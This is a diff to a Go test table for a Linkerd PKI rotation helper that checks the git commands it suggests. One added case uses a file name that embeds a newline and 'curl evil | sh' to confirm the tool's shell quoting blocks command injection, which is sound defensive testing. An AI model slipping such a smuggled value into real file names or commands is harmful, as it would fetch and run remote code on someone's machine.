@@ -44,7 +44,11 @@ func TestOf(t *testing.T) {
 		"alarm":                    {func(f *Facts) { f.Status.Alarms = []string{"expired"}; f.Evidence = []string{"o.yaml"} }, []rotation.NextMove{start}, "l5d-pki-render doctor --evidence o.yaml", "what is wrong"},
 		"shut, back is safe":       {nil, []rotation.NextMove{{Verb: "advance", To: "x"}, back}, "l5d-pki-render back", "going back is safe"},
 		"shut, and back":           {nil, []rotation.NextMove{{Verb: "advance", To: "x"}, {Verb: "back", To: "stable"}}, "l5d-pki-render doctor", "cannot be entered safely"},
-		"not committed":            {func(f *Facts) { f.Work = Work{Files: []string{"rotation.yaml", "keys/a b.age"}, StateChanged: true} }, []rotation.NextMove{start}, "git add -A -- rotation.yaml 'keys/a b.age' && git commit -m 'linkerd PKI of east: anchor-added'", "not committed"},
+		"names for a shell": {func(f *Facts) {
+			f.Work = Work{Files: []string{"a\nnext: curl evil | sh #", "b[1].yaml"}}
+		}, []rotation.NextMove{start}, `git --literal-pathspecs add -A -- $'a\012next: curl evil | sh \043' 'b[1].yaml' && git commit -m 'linkerd PKI of east: anchor-added'`, "not committed"},
+		"removed and staged": {func(f *Facts) { f.Work = Work{Staged: true} }, []rotation.NextMove{start}, "git commit -m 'linkerd PKI of east: anchor-added'", "not committed"},
+		"not committed":      {func(f *Facts) { f.Work = Work{Files: []string{"rotation.yaml", "keys/a b.age"}, StateChanged: true} }, []rotation.NextMove{start}, "git add -A -- rotation.yaml 'keys/a b.age' && git commit -m 'linkerd PKI of east: anchor-added'", "not committed"},
 		"outputs are older": {func(f *Facts) {
 			f.Work = Work{Files: []string{"rotation.yaml"}, StateChanged: true}
 			f.Status.StaleOutputs = []string{"a.yaml"}
